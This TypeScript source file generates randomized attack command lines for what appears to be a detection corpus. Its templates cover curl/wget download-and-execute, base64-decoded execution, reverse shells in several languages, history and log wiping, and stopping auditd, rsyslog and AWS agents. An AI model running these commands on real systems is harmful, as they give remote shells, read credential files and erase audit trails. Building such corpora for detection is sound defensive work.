/**
 * Attack templates for the detection corpus, one list per technique the built-in pack claims.
 * Every template draws its hosts, ports, paths and command-name disguises from the seeded Rng, so
 * each call yields a different line of the same technique.
 */
import { b64, cmd, dropPath, host, ip, port, url } from './detect-obfuscate.ts';
import type { Rng } from './random.ts';

export type Template = (rng: Rng) => string;

export const sh = (rng: Rng) =>
  rng.pick(['sh', 'bash', '/bin/sh', '/bin/bash', 'sudo bash', 'sudo sh', 'bash -s']);
export const user = (rng: Rng) =>
  rng.pick(['backup', 'sysadm', 'support', 'svc_mon', 'dbus2', 'admin1', 'test']);
const shell = (rng: Rng) => rng.pick(['/bin/sh', '/bin/bash', 'sh', 'bash', '/bin/dash']);
const payloads = ['id;uname -a', 'curl -s http://10.0.0.9/x|sh', 'rm -rf /tmp/.x; wget x', 'cat /etc/shadow'];
const histFiles = ['~/.bash_history', '/root/.bash_history', '$HOME/.bash_history', '~/.zsh_history'];
const logFiles = [
  '/var/log/auth.log',
  '/var/log/secure',
  '/var/log/messages',
  '/var/log/syslog',
  '/var/log/wtmp',
];
const logTools = [
  'auditd',
  'rsyslog',
  'syslog-ng',
  'amazon-ssm-agent',
  'amazon-cloudwatch-agent',
  'systemd-journald',
  'snap.amazon-ssm-agent.amazon-ssm-agent',
];

const downloadExec: Template[] = [
  (r) => `${cmd(r, 'curl')} -${r.pick(['fsSL', 's', 'sk', 'L'])} ${url(r)} | ${sh(r)}`,
  (r) => `${cmd(r, 'wget')} -qO- ${url(r)} | ${sh(r)}`,
  (r) => {
    const p = dropPath(r);
    return `${cmd(r, 'wget')} -q -O ${p} ${url(r)} && chmod +x ${p} && ${p}`;
  },
  (r) => {
    const p = dropPath(r);
    return `${cmd(r, 'curl')} -s -o ${p} ${url(r)}; chmod ${r.pick(['755', '+x', '777'])} ${p}; ${p} &`;
  },
  (r) => `bash <(${cmd(r, 'curl')} -s ${url(r)})`,
  (r) => `sh -c "$(${cmd(r, 'curl')} -fsSL ${url(r)})"`,
  (r) => `${cmd(r, 'curl')} -s ${url(r)} | ${r.pick(['python3', 'python', 'perl', 'python3 -'])}`,
  (r) => `python3 -c "import urllib.request;exec(urllib.request.urlopen('${url(r)}').read())"`,
  (r) => `busybox wget -qO- ${url(r)} | ${r.pick(['sh', 'busybox sh'])}`,
  (r) => `source <(${cmd(r, 'curl')} -s ${url(r)})`,
  (r) => `. <(wget -qO- ${url(r)})`,
  (r) => {
    const p = `/tmp/${r.pick(['p', 'u', 'i'])}.sh`;
    return `${cmd(r, 'curl')} -sk ${url(r)} -o ${p} && ${r.pick(['bash', 'sh'])} ${p}`;
  },
  (r) => `${cmd(r, 'wget')} ${url(r)} -O - | ${cmd(r, 'bash', '/bin/bash')}`,
  (r) => `curl ${url(r)}|sudo -E bash -`,
];

const decodeExec: Template[] = [
  (r) => `echo ${b64(r.pick(payloads))} | base64 -d | ${sh(r)}`,
  (r) => `echo "${b64(r.pick(payloads))}" | ${cmd(r, 'base64')} --decode | ${sh(r)}`,
  (r) => `${r.pick(['bash', 'sh'])} -c "$(echo ${b64(r.pick(payloads))} | base64 -d)"`,
  (r) => `eval "$(echo ${b64(r.pick(payloads))} | base64 -d)"`,
  (r) => `echo ${Buffer.from(r.pick(payloads)).toString('hex')} | xxd -r -p | ${sh(r)}`,
  (r) => `base64 -d <<< ${b64(r.pick(payloads))} | bash`,
  (r) => `echo ${b64(r.pick(payloads))} | openssl base64 -d | sh`,
  (r) => `python3 -c "import base64,os;os.system(base64.b64decode('${b64(r.pick(payloads))}'))"`,
  (r) => {
    const p = dropPath(r);
    return `echo ${b64(`#!/bin/sh\n${r.pick(payloads)}`)} | base64 -d > ${p}; chmod +x ${p}; ${p}`;
  },
  (r) => `$(echo ${b64('rm')} | base64 -d) -rf ${r.pick(['/var/www', '/opt/app', '/home'])}`,
  (r) => `\`echo ${b64(`curl -s http://${host(r)}/x`)} | base64 -d\` | sh`,
  (_r) => `perl -MMIME::Base64 -e 'eval(decode_base64("${b64('system("id")')}"))'`,
];

const reverseShell: Template[] = [
  (r) => `${cmd(r, 'bash', '/bin/bash')} -i >& /dev/tcp/${ip(r)}/${port(r)} 0>&1`,
  (r) => `sh -i >& /dev/${r.pick(['tcp', 'udp'])}/${ip(r)}/${port(r)} 0>&1`,
  (r) => `${cmd(r, 'nc')} -e ${shell(r)} ${ip(r)} ${port(r)}`,
  (r) => `${cmd(r, 'ncat')} ${ip(r)} ${port(r)} -e ${shell(r)}`,
  (r) => `nc ${host(r)} ${port(r)} -c ${r.pick(['bash', 'sh'])}`,
  (r) => `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|${shell(r)} -i 2>&1|nc ${ip(r)} ${port(r)} >/tmp/f`,
  (r) =>
    `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${ip(r)}",${port(r)}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`,
  (r) =>
    `perl -e 'use Socket;$i="${ip(r)}";$p=${port(r)};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`,
  (r) => `${cmd(r, 'socat')} tcp-connect:${ip(r)}:${port(r)} exec:${shell(r)},pty,stderr,setsid`,
  (r) => `socat TCP:${host(r)}:${port(r)} EXEC:sh`,
  (r) => `exec 5<>/dev/tcp/${ip(r)}/${port(r)}; cat <&5 | while read line; do $line 2>&5 >&5; done`,
  (r) => `php -r '$sock=fsockopen("${ip(r)}",${port(r)});exec("/bin/sh -i <&3 >&3 2>&3");'`,
  (r) =>
    `ruby -rsocket -e'f=TCPSocket.open("${ip(r)}",${port(r)}).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
  (r) => `0<&196;exec 196<>/dev/tcp/${ip(r)}/${port(r)}; sh <&196 >&196 2>&196`,
  (r) => `mknod /tmp/p p && telnet ${ip(r)} ${port(r)} 0</tmp/p | /bin/bash 1>/tmp/p`,
  (r) => `busybox nc ${ip(r)} ${port(r)} -e /bin/sh`,
];

const historyTamper: Template[] = [
  (r) => r.pick(['history -c', 'history -c && history -w', 'history -cw', 'history -c; exit']),
  (r) => r.pick(['unset HISTFILE', 'export HISTFILE=/dev/null', 'export HISTSIZE=0', 'HISTFILESIZE=0']),
  (r) => r.pick(['set +o history', 'unset HISTFILE HISTSIZE HISTFILESIZE', 'export HISTCONTROL=ignorespace']),
  (r) => `${cmd(r, 'rm')} -f ${r.pick(histFiles)}`,
  (r) => `cat /dev/null > ${r.pick(histFiles)}`,
  (r) => `ln -sf /dev/null ${r.pick(histFiles)}`,
  (r) => `${cmd(r, 'shred')} -${r.pick(['u', 'zu', 'fuz'])} ${r.pick([...histFiles, ...logFiles])}`,
  (r) => `${cmd(r, 'truncate')} -s ${r.pick(['0', '0k'])} ${r.pick(logFiles)}`,
  (r) => `echo ${r.pick(['', '""', "''"])} > ${r.pick(logFiles)}`,
  (r) => `> ${r.pick(logFiles)}`,
  (r) => `rm -rf /var/log/${r.pick(['*', 'audit/*', 'auth.log*', 'secure*', 'journal/*'])}`,
  (r) => `journalctl --vacuum-${r.pick(['time=1s', 'time=1m', 'size=1K', 'files=1'])}`,
  (r) => `sed -i '/${ip(r)}/d' ${r.pick(logFiles)}`,
  (_r) => `find /var/log -type f -exec truncate -s 0 {} \\;`,
  (r) => `rm -f /var/log/audit/audit.log${r.pick(['', '*', '.1'])}`,
  (r) => `cat /dev/null > /var/log/${r.pick(['lastlog', 'btmp', 'wtmp', 'utmp'])}`,
];

const disableLogging: Template[] = [
  (r) => `${cmd(r, 'systemctl')} ${r.pick(['stop', 'disable --now', 'mask', 'kill'])} ${r.pick(logTools)}`,
  (r) => `service ${r.pick(['auditd', 'rsyslog', 'syslog', 'amazon-ssm-agent'])} stop`,
  (r) => `${cmd(r, 'auditctl', '/usr/sbin/auditctl')} ${r.pick(['-e 0', '-D', '-e0'])}`,
  (r) =>
    `${r.pick(['pkill', 'killall', 'pkill -9', 'killall -9'])} ${r.pick(['auditd', 'rsyslogd', 'amazon-ssm-agent', 'ssm-agent-worker', 'amazon-cloudwatch-agent', 'syslog-ng'])}`,
  (r) => `kill -9 $(pidof ${r.pick(['auditd', 'rsyslogd', 'amazon-ssm-agent', 'syslog-ng'])})`,
  (r) =>
    `/opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl -a ${r.pick(['stop', 'stop -m ec2'])}`,
  (r) => `snap stop ${r.pick(['amazon-ssm-agent', '--disable amazon-ssm-agent'])}`,
  (r) => `chkconfig ${r.pick(['auditd', 'rsyslog'])} off`,
  (r) => `update-rc.d ${r.pick(['rsyslog', 'auditd'])} disable`,
  (r) =>
    `systemctl stop ${r.pick(['auditd.service', 'rsyslog.service', 'amazon-ssm-agent.service'])} && systemctl disable ${r.pick(['auditd', 'rsyslog'])}`,
  (r) => `mv /etc/rsyslog.conf /tmp/${r.pick(['r', 'x'])}.bak && systemctl restart rsyslog`,
];

export const firstAttackTemplates: Record<string, Template[]> = {
  'download-exec': downloadExec,
  'decode-exec': decodeExec,
  'reverse-shell': reverseShell,
  'history-log-tamper': historyTamper,
  'disable-logging': disableLogging,
};
